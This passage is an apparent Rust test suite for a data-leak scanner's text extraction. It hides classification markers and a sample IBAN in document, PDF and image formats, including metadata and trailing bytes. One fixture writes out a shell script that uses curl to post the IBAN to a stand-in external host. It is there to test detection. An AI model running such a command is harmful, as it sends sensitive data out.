use super::*;
use crate::media::samples::docs;
use crate::media::sniff::sniff;

const SECRET: &str = "GEHEIM";
const IBAN: &str = "DE89 3704 0044 0532 0130 00";
const MAX: usize = 1 << 20;

/// Sniffs `bytes`, checks the kind, extracts and returns the text.
fn extract(bytes: &[u8], kind: FileKind) -> String {
    assert_eq!(sniff(bytes), kind, "sample sniffs as {kind}");
    text(kind, bytes, MAX)
        .unwrap_or_else(|e| panic!("{kind}: {e}"))
        .unwrap_or_else(|| panic!("{kind}: no text"))
}

fn assert_has(text: &str, needle: &str, place: &str) {
    assert!(
        text.contains(needle),
        "{place}: {needle:?} not in extracted text {text:?}"
    );
}

fn both() -> String {
    format!("Konto {IBAN} ist {SECRET}")
}

// ----------------------------------------------------------------------------------------
// text formats

#[test]
fn plain_text_utf8_and_utf16() {
    let t = extract(both().as_bytes(), FileKind::Text);
    assert_eq!(t, both());
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(both().encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert_eq!(extract(&utf16, FileKind::Text), both());
    let bom = [&b"\xef\xbb\xbf"[..], both().as_bytes()].concat();
    assert_eq!(extract(&bom, FileKind::Text), both());
}

#[test]
fn json_keys_strings_and_numbers() {
    let doc = format!(
        r#"{{"note": "x", "{SECRET}": 1, "nested": [{{"iban": "{IBAN}"}}, 4111111111111111]}}"#
    );
    let t = extract(doc.as_bytes(), FileKind::Json);
    assert_has(&t, SECRET, "json key");
    assert_has(&t, IBAN, "json string");
    assert_has(&t, "4111111111111111", "json number");
    assert!(t.lines().any(|l| l == "iban"), "keys are pieces: {t:?}");
}

#[test]
fn xml_text_attributes_comments_cdata_entities() {
    let doc = format!(
        "<?xml version=\"1.0\"?><root a=\"{IBAN}\"><x>G&#69;HEIM</x><!-- c {SECRET}2 --><y><![CDATA[{SECRET}3]]></y><z>&amp;&lt;</z></root>"
    );
    let t = extract(doc.as_bytes(), FileKind::Xml);
    assert_has(&t, "GEHEIM", "xml char reference");
    assert_has(&t, IBAN, "xml attribute");
    assert_has(&t, &format!("{SECRET}2"), "xml comment");
    assert_has(&t, &format!("{SECRET}3"), "xml cdata");
    assert_has(&t, "&<", "xml predefined entities");
}

#[test]
fn svg_text_split_across_tspans_is_joined() {
    let doc = "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>GE<tspan>HE</tspan>IM</text><title>t</title></svg>";
    let t = extract(doc.as_bytes(), FileKind::Svg);
    assert_has(&t, "GEHEIM", "svg tspan");
    assert!(!t.contains("GEHEIMt"), "block elements end a line: {t:?}");
}

#[test]
fn malformed_xml_is_malformed() {
    let err = text(FileKind::Xml, b"<a><b></a>", MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
    let err = text(FileKind::Text, b"\xc3\x28", MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
}

#[test]
fn html_text_entities_attributes_comments_script() {
    let doc = format!(
        "<!DOCTYPE html><html><head><title>T</title><script>var k = \"{SECRET}1\";</script></head>\
<body><p>Konto <b>DE89</b> 3704&nbsp;0044 &#x30;532 0130 00</p><p><span>GE</span>HEIM</p>\
<img alt=\"{SECRET}2\" src=\"x.png\"><!-- {SECRET}3 --></body></html>"
    );
    let t = extract(doc.as_bytes(), FileKind::Html);
    assert_has(&t, "GEHEIM", "html inline split");
    assert_has(&t, "DE89 3704\u{a0}0044 0532 0130 00", "html entities");
    assert_has(&t, &format!("{SECRET}1"), "html script");
    assert_has(&t, &format!("{SECRET}2"), "html attribute");
    assert_has(&t, &format!("{SECRET}3"), "html comment");
    assert!(!t.contains("TKonto"), "block elements end a line: {t:?}");
}

// ----------------------------------------------------------------------------------------
// office

#[test]
fn docx_body_runs_headers_footers_notes_comments_properties() {
    let body = format!(
        "<w:p><w:r><w:t>GE</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>HEIM</w:t></w:r></w:p>\
<w:p><w:r><w:t>next paragraph</w:t></w:r></w:p>\
<w:p><w:ins w:author=\"a\"><w:r><w:t xml:space=\"preserve\">{IBAN}</w:t></w:r></w:ins></w:p>"
    );
    let part = |root: &str, text: &str| {
        format!(
            "<w:{root} xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">{}</w:{root}>",
            docs::word_paragraphs(text)
        )
    };
    let header = part("hdr", &format!("{SECRET}-header"));
    let footer = part("ftr", &format!("{SECRET}-footer"));
    let footnotes = format!(
        "<w:footnotes xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:footnote w:id=\"1\">{}</w:footnote></w:footnotes>",
        docs::word_paragraphs(&format!("{SECRET}-footnote"))
    );
    let comments = format!(
        "<w:comments xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:comment w:id=\"0\" w:author=\"x\">{}</w:comment></w:comments>",
        docs::word_paragraphs(&format!("{SECRET}-comment"))
    );
    let core = docs::core_props(&format!("{SECRET}-title"), "author", IBAN);
    let bytes = docs::docx_with(
        &body,
        &[
            ("word/header1.xml", &header),
            ("word/footer1.xml", &footer),
            ("word/footnotes.xml", &footnotes),
            ("word/comments.xml", &comments),
            ("docProps/core.xml", &core),
        ],
    );
    let t = extract(&bytes, FileKind::Docx);
    assert!(
        t.lines().any(|l| l == "GEHEIM"),
        "runs in a paragraph are joined, paragraphs are lines: {t:?}"
    );
    assert!(t.lines().any(|l| l == "next paragraph"), "{t:?}");
    assert!(t.lines().any(|l| l == IBAN), "{t:?}");
    for place in ["header", "footer", "footnote", "comment", "title"] {
        assert_has(&t, &format!("{SECRET}-{place}"), place);
    }
    // body text comes before the other parts
    assert!(t.find("GEHEIM").unwrap() < t.find("GEHEIM-header").unwrap());
}

#[test]
fn docx_tabs_breaks_and_plain_sample() {
    let body = "<w:p><w:r><w:t>a</w:t><w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t></w:r></w:p>";
    let t = extract(&docs::docx_with(body, &[]), FileKind::Docx);
    assert!(t.starts_with("a\tb\nc"), "{t:?}");
    let t = extract(&docs::docx(&both()), FileKind::Docx);
    assert_has(&t, &both(), "docx sample");
}

/// Parts that are no XML part of the package are read by what they are: imported HTML and
/// text chunks (`w:altChunk`, shown by Word as document text), picture metadata, an embedded
/// workbook. A document nested two levels deep is unreadable.
#[test]
fn office_other_parts_are_read_by_kind() {
    let body = "<w:p><w:r><w:t>harmlos</w:t></w:r></w:p>";
    let html = format!("<html><body><p>Einstufung {SECRET}</p></body></html>");
    let png = docs::png(1, 1, Some(&format!("Bildtext {SECRET}-png")));
    let xlsx = docs::xlsx(&[IBAN]);
    let bytes = docs::docx_with_parts(
        body,
        &[
            ("word/afchunk.htm", html.as_bytes()),
            ("word/afchunk2.txt", b"Anlage VS-VERTRAULICH"),
            ("word/media/image1.png", &png),
            ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", &xlsx),
        ],
    );
    let t = extract(&bytes, FileKind::Docx);
    assert_has(&t, "harmlos", "docx body");
    assert_has(&t, &format!("Einstufung {SECRET}"), "altChunk HTML");
    assert_has(&t, "Anlage VS-VERTRAULICH", "altChunk text");
    assert_has(&t, &format!("{SECRET}-png"), "picture metadata");
    assert_has(&t, IBAN, "embedded workbook");
    let inner = docs::docx(SECRET);
    let middle = docs::docx_with_parts(body, &[("word/embeddings/a.docx", &inner)]);
    assert_has(
        &extract(&middle, FileKind::Docx),
        SECRET,
        "embedded document",
    );
    let outer = docs::docx_with_parts(body, &[("word/embeddings/b.docx", &middle)]);
    assert!(
        matches!(
            text(FileKind::Docx, &outer, MAX),
            Err(ExtractError::Unreadable { .. })
        ),
        "two levels deep"
    );
}

/// Imported chunks that sniffing does not name are read as what they are (RTF with its
/// escapes, MHT quoted-printable); an archive, a base64 MHT, bytes of no known kind (unless a
/// font, drawing or printer setting by name) and too many embedded documents make the file
/// unreadable.
#[test]
fn office_imported_chunks_and_unreadable_parts() {
    let body = "<w:p><w:r><w:t>harmlos</w:t></w:r></w:p>";
    let rtf = br"{\rtf1\ansi Einstufung GEHEIM-rtf\par Gr\'fc\u223?e {\b VS-NfD}}";
    let mht = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\
Content-Transfer-Encoding: quoted-printable\r\n\r\n<p>Lage GEH=\r\nEIM-mht =C3=84</p>";
    let font: Vec<u8> = (0..2048u32).map(|i| (i * 7919 % 251) as u8).collect();
    let bytes = docs::docx_with_parts(
        body,
        &[
            ("word/afchunk.rtf", rtf),
            ("word/afchunk.mht", mht),
            ("word/fonts/font1.odttf", &font),
        ],
    );
    let t = extract(&bytes, FileKind::Docx);
    assert_has(&t, "GEHEIM-rtf", "RTF chunk");
    assert_has(&t, "Grü", "RTF hex escape");
    assert_has(&t, "ße", "RTF unicode escape, fallback skipped");
    assert_has(&t, "VS-NfD", "RTF group");
    assert_has(&t, "GEHEIM-mht", "MHT soft line break");
    assert_has(&t, "Ä", "MHT =hh");

    let zipped = docs::zip_parts(&[("a.txt", SECRET.as_bytes())]);
    let base64_mht = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\
Content-Transfer-Encoding: base64\r\n\r\nR0VIRUlN\r\n";
    let xlsx = docs::xlsx(&["x"]);
    let many: Vec<(String, &[u8])> = (0..=super::office::MAX_EMBEDDED)
        .map(|i| (format!("word/embeddings/s{i}.xlsx"), &xlsx[..]))
        .collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(n, b)| (n.as_str(), *b)).collect();
    for (what, parts) in [
        ("archive", vec![("word/a.zip", &zipped[..])]),
        ("base64 MHT", vec![("word/afchunk.mht", &base64_mht[..])]),
        ("unknown bytes", vec![("word/blob.dat", &font[..])]),
        ("too many embedded documents", many),
    ] {
        let bytes = docs::docx_with_parts(body, &parts);
        assert!(
            matches!(
                text(FileKind::Docx, &bytes, MAX),
                Err(ExtractError::Unreadable { .. })
            ),
            "{what}"
        );
    }
}

#[test]
fn xlsx_shared_strings_inline_strings_rich_runs() {
    let t = extract(&docs::xlsx(&["a", SECRET, IBAN]), FileKind::Xlsx);
    assert!(t.lines().any(|l| l == SECRET), "{t:?}");
    assert!(t.lines().any(|l| l == IBAN), "{t:?}");

    let shared = "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><r><t>GE</t></r><r><rPr><b/></rPr><t>HEIM</t></r></si></sst>";
    let row = format!("<c r=\"A1\" t=\"inlineStr\"><is><t>{IBAN}</t></is></c>");
    let t = extract(&docs::xlsx_with(&row, shared, &[]), FileKind::Xlsx);
    assert!(
        t.lines().any(|l| l == "GEHEIM"),
        "rich text runs joined: {t:?}"
    );
    assert_has(&t, IBAN, "inline string");
}

#[test]
fn pptx_and_docm() {
    let t = extract(&docs::pptx(&format!("x\n{SECRET}\n{IBAN}")), FileKind::Pptx);
    assert!(t.lines().any(|l| l == SECRET), "{t:?}");
    assert_has(&t, IBAN, "pptx slide");
    let t = extract(&docs::docm(&both()), FileKind::OfficeMacro);
    assert_has(&t, &both(), "docm");
}

#[test]
fn odt_ods_body_styles_meta() {
    let body = format!(
        "<office:text><text:p>G<text:span>E</text:span>HEIM</text:p><text:h>{IBAN}</text:h><text:p>a<text:s/>b<text:tab/>c</text:p></office:text>"
    );
    let styles = format!(
        "<office:document-styles xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:style=\"urn:oasis:names:tc:opendocument:xmlns:style:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:master-styles><style:master-page><style:header><text:p>{SECRET}-header</text:p></style:header></style:master-page></office:master-styles></office:document-styles>"
    );
    let meta = docs::odf_meta(&format!("{SECRET}-title"), &format!("{SECRET}-keyword"));
    let bytes = docs::odf_with(
        "application/vnd.oasis.opendocument.text",
        &body,
        &[("styles.xml", &styles), ("meta.xml", &meta)],
    );
    let t = extract(&bytes, FileKind::Odt);
    assert!(t.lines().any(|l| l == "GEHEIM"), "{t:?}");
    assert!(t.lines().any(|l| l == IBAN), "{t:?}");
    assert!(t.lines().any(|l| l == "a b\tc"), "{t:?}");
    for place in ["header", "title", "keyword"] {
        assert_has(&t, &format!("{SECRET}-{place}"), place);
    }
    let t = extract(&docs::ods(&["x", SECRET, IBAN]), FileKind::Ods);
    assert!(t.lines().any(|l| l == SECRET), "{t:?}");
    assert!(t.lines().any(|l| l == IBAN), "{t:?}");
    let odp = docs::odf_with(
        "application/vnd.oasis.opendocument.presentation",
        &format!("<office:presentation><text:p>{SECRET}</text:p></office:presentation>"),
        &[],
    );
    assert_has(&extract(&odp, FileKind::Odp), SECRET, "odp");
}

/// Sets the "encrypted" flag (bit 0 of the general purpose flags) of every entry.
fn mark_encrypted(zip: &mut [u8]) {
    patch_headers(zip, |zip, local, at| {
        let flag = if local { at + 6 } else { at + 8 };
        zip[flag] |= 0x01;
    });
}

/// Sets the compression method of every entry to 14 (LZMA, not supported here).
fn mark_lzma(zip: &mut [u8]) {
    patch_headers(zip, |zip, local, at| {
        let method = if local { at + 8 } else { at + 10 };
        zip[method] = 14;
        zip[method + 1] = 0;
    });
}

fn patch_headers(zip: &mut [u8], mut f: impl FnMut(&mut [u8], bool, usize)) {
    let mut i = 0;
    while i + 4 <= zip.len() {
        if &zip[i..i + 4] == b"PK\x03\x04" {
            f(zip, true, i);
        } else if &zip[i..i + 4] == b"PK\x01\x02" {
            f(zip, false, i);
        }
        i += 1;
    }
}

#[test]
fn office_limits_encryption_garbage() {
    // huge sharedStrings: over max_text
    let cells: Vec<String> = (0..2000)
        .map(|i| format!("{SECRET} cell number {i}"))
        .collect();
    let refs: Vec<&str> = cells.iter().map(String::as_str).collect();
    let big = docs::xlsx(&refs);
    let err = text(FileKind::Xlsx, &big, 4096).unwrap_err();
    assert!(
        matches!(err, ExtractError::TooLarge { limit: 4096, .. }),
        "{err}"
    );
    assert!(text(FileKind::Xlsx, &big, MAX).unwrap().unwrap().len() <= MAX);

    // one part over the part limit (highly compressible: the zip is small)
    let filler = "<w:p/>".repeat(400_000);
    let bytes = docs::docx_with(&filler, &[]);
    assert!(bytes.len() < 100_000);
    let err = text(FileKind::Docx, &bytes, 1000).unwrap_err();
    assert!(matches!(err, ExtractError::TooLarge { .. }), "{err}");

    let mut encrypted = docs::docx(SECRET);
    mark_encrypted(&mut encrypted);
    let err = text(FileKind::Docx, &encrypted, MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");

    let mut lzma = docs::docx(SECRET);
    mark_lzma(&mut lzma);
    let err = text(FileKind::Docx, &lzma, MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");

    for garbage in [&b"PK\x03\x04garbage"[..], b"", b"not a zip at all"] {
        let err = text(FileKind::Docx, garbage, MAX).unwrap_err();
        assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
    }
    // a zip without office parts
    let err = text(FileKind::Docx, &docs::zip_parts(&[("a.txt", b"x")]), MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
    // a corrupt deflate stream in a part
    let mut corrupt = docs::docx(&"x".repeat(5000));
    let at = corrupt.len() / 2;
    for b in &mut corrupt[at..at + 64] {
        *b ^= 0x5a;
    }
    let err = text(FileKind::Docx, &corrupt, MAX).unwrap_err();
    assert!(!matches!(err, ExtractError::TooLarge { .. }), "{err}");
}

// ----------------------------------------------------------------------------------------
// PDF

#[test]
fn pdf_page_text_info_xmp() {
    let t = extract(&docs::pdf(&both()), FileKind::Pdf);
    assert_has(&t, SECRET, "pdf page");
    assert_has(&t, IBAN, "pdf page");

    let t = extract(
        &docs::pdf_with_info(&format!("{SECRET}-title")),
        FileKind::Pdf,
    );
    assert_has(&t, &format!("{SECRET}-title"), "pdf info");

    let page_two = format!("page two {SECRET}-p2");
    let xmp = format!("{SECRET}-xmp");
    let spec = docs::PdfSpec {
        pages: vec!["page one", &page_two],
        info: vec![("Author", IBAN), ("Keywords", "k (with) parens")],
        xmp: Some(&xmp),
        ..docs::PdfSpec::default()
    };
    let t = extract(&docs::pdf_from(&spec), FileKind::Pdf);
    assert_has(&t, &format!("{SECRET}-p2"), "pdf second page");
    assert_has(&t, IBAN, "pdf info author");
    assert_has(&t, "k (with) parens", "pdf info escapes");
    assert_has(&t, &format!("{SECRET}-xmp"), "pdf xmp");
}

/// Text a page draws with `Do` (a stamp in a Form XObject) is text the reader sees: it is
/// read with the form's fonts, or the page's when the form has none of its own.
#[test]
fn pdf_form_xobject_text() {
    for inherits in [false, true] {
        let stamp = format!("Einstufung {SECRET}");
        let spec = docs::PdfSpec {
            pages: vec!["harmloser Text"],
            stamp: Some(&stamp),
            stamp_inherits: inherits,
            ..docs::PdfSpec::default()
        };
        let t = extract(&docs::pdf_from(&spec), FileKind::Pdf);
        assert_has(&t, "harmloser Text", "pdf page");
        assert_has(
            &t,
            &stamp,
            &format!("pdf stamp (inherits fonts: {inherits})"),
        );
    }
    // A form whose `/Subtype` is an indirect object is still a form.
    let spec = docs::PdfSpec {
        pages: vec!["harmloser Text"],
        stamp: Some(SECRET),
        stamp_subtype_indirect: true,
        ..docs::PdfSpec::default()
    };
    assert_has(
        &extract(&docs::pdf_from(&spec), FileKind::Pdf),
        SECRET,
        "indirect subtype",
    );
}

/// Words drawn apart by moving the text position stay apart (a whole-word rule must see
/// `GEHEIM`, not `LageGEHEIM`); a string shown without a known font is read as its bytes.
#[test]
fn pdf_text_position_moves_separate_words() {
    let spec = docs::PdfSpec {
        page_content: Some(
            "BT /F1 12 Tf 72 720 Td (Lage) Tj 40 0 Td (GEHEIM) Tj 1 0 0 1 72 600 Tm (Akte) Tj \
             ET BT /F9 12 Tf 72 500 Td (VS-NfD) Tj ET",
        ),
        ..docs::PdfSpec::default()
    };
    let t = extract(&docs::pdf_from(&spec), FileKind::Pdf);
    let words: Vec<&str> = t.split_whitespace().collect();
    assert!(words.contains(&"GEHEIM"), "{t:?}");
    assert!(words.contains(&"Akte"), "{t:?}");
    assert!(words.contains(&"VS-NfD"), "unknown font: {t:?}");
}

#[test]
fn pdf_encrypted_garbage_truncated() {
    let spec = docs::PdfSpec {
        pages: vec![SECRET],
        encrypted: true,
        ..docs::PdfSpec::default()
    };
    let err = text(FileKind::Pdf, &docs::pdf_from(&spec), MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");

    let spec = docs::PdfSpec {
        pages: vec!["cover letter"],
        attachment: Some(("secret.docx", &docs::docx(SECRET))),
        ..docs::PdfSpec::default()
    };
    let with_attachment = docs::pdf_from(&spec);
    assert_eq!(sniff(&with_attachment), FileKind::Pdf);
    let err = text(FileKind::Pdf, &with_attachment, MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");

    let err = text(FileKind::Pdf, b"%PDF-1.4\ngarbage garbage", MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");

    // truncated: either lopdf repairs it (and the text is there) or it is malformed
    let full = docs::pdf(SECRET);
    for cut in [full.len() / 3, full.len() / 2, full.len() - 30] {
        match text(FileKind::Pdf, &full[..cut], MAX) {
            Ok(Some(t)) => assert!(t.is_empty() || t.contains(SECRET), "{t:?}"),
            Ok(None) => panic!("a PDF always has a text result"),
            Err(e) => assert!(matches!(e, ExtractError::Malformed { .. }), "{e}"),
        }
    }

    let err = text(
        FileKind::Pdf,
        &docs::pdf(&"long line of text ".repeat(200)),
        100,
    )
    .unwrap_err();
    assert!(matches!(err, ExtractError::TooLarge { .. }), "{err}");
}

// ----------------------------------------------------------------------------------------
// images

#[test]
fn png_text_ztxt_itxt_exif() {
    let t = extract(&docs::png(2, 2, Some(&both())), FileKind::Png);
    assert_has(&t, &both(), "png tEXt");

    let chunks = vec![
        docs::png_ztxt("Comment", &format!("{SECRET}-ztxt")),
        docs::png_itxt("Description", &format!("{SECRET}-itxt"), false),
        docs::png_itxt("Title", &format!("{SECRET}-itxt-z"), true),
        docs::png_itxt(
            "XML:com.adobe.xmp",
            &docs::xmp_packet(&format!("{SECRET}-xmp")),
            true,
        ),
        (*b"eXIf", docs::exif_description(IBAN)),
    ];
    let t = extract(&docs::png_with_chunks(3, 3, &chunks), FileKind::Png);
    for place in ["ztxt", "itxt", "itxt-z", "xmp"] {
        assert_has(&t, &format!("{SECRET}-{place}"), place);
    }
    assert_has(&t, IBAN, "png eXIf");
}

/// Text in the places a viewer does not show but a file carries: after the end of the image,
/// in private chunks and other application segments, in an image appended to an image.
#[test]
fn image_trailing_bytes_private_chunks_and_segments() {
    let mut png = docs::png_with_chunks(2, 2, &[(*b"prVt", b"\x00\x01note GEHEIM-chunk".to_vec())]);
    png.extend_from_slice(b"\x00\x00Anhang GEHEIM-png\xff\xfe");
    let t = extract(&png, FileKind::Png);
    assert_has(&t, "GEHEIM-chunk", "private PNG chunk");
    assert_has(&t, "Anhang GEHEIM-png", "after IEND");

    let mut jpeg =
        docs::jpeg_with_segments(&[(0xe2, b"ICC_PROFILE\x00\x01\x01 GEHEIM-app2".to_vec())]);
    jpeg.extend_from_slice(b"\x00Anhang GEHEIM-jpeg\x00");
    let t = extract(&jpeg, FileKind::Jpeg);
    assert_has(&t, "GEHEIM-app2", "APP2 segment");
    assert_has(&t, "Anhang GEHEIM-jpeg", "after EOI");

    // An image appended to the image (multi-picture files) is read as one.
    let mut two = docs::jpeg();
    two.extend_from_slice(&docs::jpeg_with_comment("zweites Bild GEHEIM-mpf"));
    assert_has(
        &extract(&two, FileKind::Jpeg),
        "GEHEIM-mpf",
        "appended JPEG",
    );
    // Short runs and binary noise give nothing.
    assert_eq!(
        crate::media::archive::strings(b"\x00ab\x01\xff\xfecd\x02"),
        ""
    );
}

/// The same places in GIF and WebP: application and unknown extensions, private chunks,
/// chunks inside an animation frame, bytes after the trailer or the RIFF container's end.
#[test]
fn gif_and_webp_trailing_bytes_extensions_and_private_chunks() {
    let plain = docs::gif_with_comment("harmlos");
    let trailer = plain.len() - 1;
    // an application extension before the image, with its data in two sub-blocks
    let mut app = vec![0x21, 0xff, 0x0b];
    app.extend_from_slice(b"PRIVATE1.0 ");
    app.extend_from_slice(&[4, b'G', b'E', b'H', b'E', 7]);
    app.extend_from_slice(b"IM-app1");
    app.push(0);
    // an extension with a label GIF does not define
    let mut unknown = vec![0x21, 0x42, 11];
    unknown.extend_from_slice(b"GEHEIM-ext ");
    unknown.push(0);
    // a graphic control extension longer than its four bytes
    let mut gce = vec![0x21, 0xf9, 14, 0, 0, 0, 0];
    gce.extend_from_slice(b"GEHEIM-gce");
    gce.push(0);
    let mut gif = plain[..trailer].to_vec();
    gif.extend_from_slice(&app);
    gif.extend_from_slice(&unknown);
    gif.extend_from_slice(&gce);
    gif.push(0x3b);
    gif.extend_from_slice(b"\x00Anhang GEHEIM-gif\xff");
    let t = extract(&gif, FileKind::Gif);
    assert_has(
        &t,
        "GEHEIM-app1",
        "GIF application extension over two sub-blocks",
    );
    assert_has(&t, "GEHEIM-ext", "GIF unknown extension");
    assert_has(&t, "GEHEIM-gce", "GIF graphic control extension");
    assert_has(&t, "Anhang GEHEIM-gif", "after the GIF trailer");
    assert!(!extract(&plain, FileKind::Gif).contains("GEHEIM"));

    let chunk = |fourcc: &[u8; 4], data: &[u8]| {
        let mut out = fourcc.to_vec();
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(data);
        if data.len() % 2 == 1 {
            out.push(0);
        }
        out
    };
    let mut frame = vec![0u8; 16];
    frame.extend_from_slice(&chunk(b"prVt", b"im Bild GEHEIM-frame"));
    let mut extra = chunk(b"ICCP", b"\x00\x00desc GEHEIM-iccp\x00");
    extra.extend_from_slice(&chunk(b"zzzz", b"GEHEIM-private"));
    extra.extend_from_slice(&chunk(b"ANMF", &frame));
    let mut anim = vec![0u8; 6];
    anim.extend_from_slice(b"GEHEIM-anim");
    extra.extend_from_slice(&chunk(b"ANIM", &anim));
    let mut webp = docs::webp_with_metadata(None, None);
    webp.extend_from_slice(&extra);
    let size = (webp.len() - 8) as u32;
    webp[4..8].copy_from_slice(&size.to_le_bytes());
    webp.extend_from_slice(b"\x00Anhang GEHEIM-webp");
    let t = extract(&webp, FileKind::Webp);
    for (marker, place) in [
        ("GEHEIM-iccp", "WebP ICCP chunk"),
        ("GEHEIM-private", "WebP private chunk"),
        ("GEHEIM-frame", "chunk inside an animation frame"),
        ("GEHEIM-anim", "after the ANIM chunk's six bytes"),
        ("Anhang GEHEIM-webp", "after the RIFF container"),
    ] {
        assert_has(&t, marker, place);
    }
    // a chunk cut short by the end of the container is malformed, not skipped
    let mut cut = docs::webp_with_metadata(None, None);
    cut.extend_from_slice(b"zzzz\xff\x00\x00\x00GEHEIM");
    let size = (cut.len() - 8) as u32;
    cut[4..8].copy_from_slice(&size.to_le_bytes());
    let err = text(FileKind::Webp, &cut, MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
}

#[test]
fn png_limits_and_truncation() {
    // a zTXt bomb: 4 MiB of zeros compress to a few KiB
    let bomb = docs::png_ztxt("Comment", &"0".repeat(4 << 20));
    let bytes = docs::png_with_chunks(1, 1, &[bomb]);
    assert!(bytes.len() < 64 * 1024);
    let err = text(FileKind::Png, &bytes, 1000).unwrap_err();
    assert!(matches!(err, ExtractError::TooLarge { .. }), "{err}");

    let full = docs::png(2, 2, Some(SECRET));
    let err = text(FileKind::Png, &full[..full.len() - 20], MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
}

#[test]
fn jpeg_comment_exif_xmp() {
    let t = extract(&docs::jpeg_with_comment(&both()), FileKind::Jpeg);
    assert_has(&t, &both(), "jpeg COM");
    let t = extract(&docs::jpeg_with_exif(&both()), FileKind::Jpeg);
    assert_has(&t, &both(), "jpeg EXIF ImageDescription");
    let t = extract(&docs::jpeg_with_xmp(&both()), FileKind::Jpeg);
    assert_has(&t, &both(), "jpeg XMP");

    let mut user_comment = b"ASCII\0\0\0".to_vec();
    user_comment.extend_from_slice(format!("{SECRET}-user").as_bytes());
    let xp: Vec<u8> = format!("{SECRET}-xp\0")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut artist = format!("{SECRET}-artist").into_bytes();
    artist.push(0);
    let tiff = docs::exif_tiff(&[
        (0x013b, 2, artist),
        (0x9286, 7, user_comment),
        (0x9c9c, 1, xp),
    ]);
    let t = extract(&docs::jpeg_with_exif_data(&tiff), FileKind::Jpeg);
    for place in ["artist", "user", "xp"] {
        assert_has(&t, &format!("{SECRET}-{place}"), place);
    }
    // no metadata: empty text
    assert_eq!(extract(&docs::jpeg(), FileKind::Jpeg), "");
}

#[test]
fn jpeg_truncated_and_bad_exif() {
    let full = docs::jpeg_with_comment(SECRET);
    let err = text(FileKind::Jpeg, &full[..12], MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
    let bad = docs::jpeg_with_exif_data(b"II*\0\xff\xff\xff\xff");
    let err = text(FileKind::Jpeg, &bad, MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
}

#[test]
fn exif_with_one_broken_entry_gives_the_others() {
    let mut description = format!("{SECRET}-description").into_bytes();
    description.push(0);
    let mut artist = format!("{IBAN} artist").into_bytes();
    artist.push(0);
    let mut tiff = docs::exif_tiff(&[(0x010e, 2, description), (0x013b, 2, artist)]);
    // the second entry's value offset (IFD at 8, count, 12-byte entries) points nowhere
    tiff[30..34].copy_from_slice(&0xffff_ff00u32.to_le_bytes());
    let t = extract(&docs::jpeg_with_exif_data(&tiff), FileKind::Jpeg);
    assert_has(&t, &format!("{SECRET}-description"), "intact EXIF entry");
    assert!(!t.contains(IBAN), "{t:?}");
}

#[test]
fn gif_and_webp_metadata() {
    let long = format!("{}{}", "x".repeat(300), both());
    let t = extract(&docs::gif_with_comment(&long), FileKind::Gif);
    assert_has(&t, &long, "gif comment over several sub-blocks");

    let webp = docs::webp_with_metadata(
        Some(&docs::exif_description(&format!("{SECRET}-exif"))),
        Some(&format!("{SECRET}-xmp")),
    );
    let t = extract(&webp, FileKind::Webp);
    assert_has(&t, &format!("{SECRET}-exif"), "webp EXIF");
    assert_has(&t, &format!("{SECRET}-xmp"), "webp XMP");

    let gif = docs::gif_with_comment(SECRET);
    let err = text(FileKind::Gif, &gif[..gif.len() - 8], MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Malformed { .. }), "{err}");
}

#[test]
fn tiff_tags() {
    let tiff = docs::exif_description(&both());
    assert_has(&extract(&tiff, FileKind::Tiff), &both(), "tiff tag");
}

// ----------------------------------------------------------------------------------------
// kinds without text, limits

#[test]
fn kinds_without_text_and_ole() {
    for kind in [
        FileKind::Zip,
        FileKind::Tar,
        FileKind::Gzip,
        FileKind::Pe,
        FileKind::Mp4,
        FileKind::Bmp,
        FileKind::Unknown,
    ] {
        assert!(text(kind, b"anything", MAX).unwrap().is_none(), "{kind}");
    }
    let script = format!("#!/bin/sh\ncurl -d '{IBAN}' https://x.example/\n");
    assert_has(
        &extract(script.as_bytes(), FileKind::Script),
        IBAN,
        "script",
    );
    let err = text(FileKind::Ole, b"\xd0\xcf\x11\xe0", MAX).unwrap_err();
    assert!(matches!(err, ExtractError::Unreadable { .. }), "{err}");
}

#[test]
fn max_text_is_never_exceeded() {
    let body = "word ".repeat(1000);
    for max in [0usize, 1, 10, 4999, 5000, 5001] {
        match text(FileKind::Text, body.as_bytes(), max) {
            Ok(Some(t)) => assert!(t.len() <= max && max >= body.trim_end().len(), "{max}"),
            Ok(None) => panic!("text has text"),
            Err(ExtractError::TooLarge { limit, .. }) => assert_eq!(limit, max),
            Err(e) => panic!("{e}"),
        }
    }
